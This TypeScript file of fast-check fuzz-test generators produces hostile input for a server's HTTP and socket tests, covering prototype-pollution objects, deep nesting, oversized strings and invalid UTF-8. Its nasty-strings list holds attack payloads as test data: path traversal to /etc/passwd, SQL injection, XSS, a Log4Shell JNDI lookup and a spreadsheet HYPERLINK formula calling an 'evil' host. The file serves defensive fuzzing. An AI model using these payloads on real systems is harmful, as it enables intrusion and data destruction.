// fast-check generators of hostile input: wrong types, prototype-pollution keys, huge strings, deep nesting,
// strings that are not what they seem. Shared by the HTTP and socket fuzz tests.
import fc from "fast-check";

/** Keys that try to reach the prototype chain or look like internals. */
export const POLLUTING_KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

/** Strings that have broken servers before. */
export const NASTY_STRINGS = [
  "",
  " ",
  "__proto__",
  "constructor",
  "../../../etc/passwd",
  "%00",
  "\u0000",
  "\ud800",
  "\uffff",
  "'; DROP TABLE ratings; --",
  "<script>alert(1)</script>",
  '=HYPERLINK("http://evil")',
  "${jndi:ldap://evil/a}",
  "{{7*7}}",
  "NaN",
  "-1",
  "1e309",
  "0x10",
  "١٢٣٤٥٦",
  "１２３４５６",
  "123 456",
  "9".repeat(400),
];

export const hostileString = (maxLength = 200) =>
  fc.oneof(
    fc.constantFrom(...NASTY_STRINGS),
    fc.string({ maxLength }),
    fc.string({ unit: "grapheme", maxLength }),
    fc.string({ unit: "binary", maxLength }),
  );

/** An object whose own keys try to pollute the prototype (JSON.parse keeps `__proto__` as an own key). */
export const pollutingObject = fc
  .dictionary(fc.constantFrom(...POLLUTING_KEYS), fc.jsonValue({ maxDepth: 2 }))
  .map((object) => {
    const rest = JSON.stringify(object).slice(1, -1);
    const text = `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}${rest ? `,${rest}` : ""}}`;
    return JSON.parse(text) as unknown;
  });

/** Arrays or objects nested `depth` deep. */
export const deeplyNested = (maxDepth: number) =>
  fc.tuple(fc.integer({ min: 100, max: maxDepth }), fc.boolean()).map(([depth, asArray]) => {
    const text = asArray ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
    // fast-check would print a counterexample by recursion, overflowing the stack: it prints this instead.
    return Object.assign(JSON.parse(text) as object, { [fc.toStringMethod]: () => `nested(${depth})` });
  });

/** Any hostile JSON value: wrong types, polluting keys, long strings, deep nesting. */
export const hostileJson = (hugeLength: number, maxDepth: number) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    { weight: 2, arbitrary: pollutingObject },
    { weight: 1, arbitrary: hostileString() },
    { weight: 1, arbitrary: fc.integer({ min: hugeLength / 2, max: hugeLength }).map((n) => "x".repeat(n)) },
    { weight: 1, arbitrary: deeplyNested(maxDepth) },
    { weight: 1, arbitrary: fc.constantFrom(null, true, 0, -0, 1e308, [], {}) },
  );

/** Bytes that are not valid UTF-8 (lone continuation bytes, overlong forms, surrogates, truncated sequences). */
export const invalidUtf8 = fc
  .tuple(
    fc.constantFrom(
      [0x80],
      [0xc0, 0xaf],
      [0xe0, 0x80, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf8, 0x88, 0x80, 0x80, 0x80],
      [0xff, 0xfe],
      [0xe2, 0x82],
    ),
    fc.string({ maxLength: 20 }),
  )
  .map(([bad, text]) =>
    Buffer.concat([Buffer.from(`{"joinCode":"${text.replace(/["\\]/g, "")}`), Buffer.from(bad), Buffer.from('"}')]),
  );
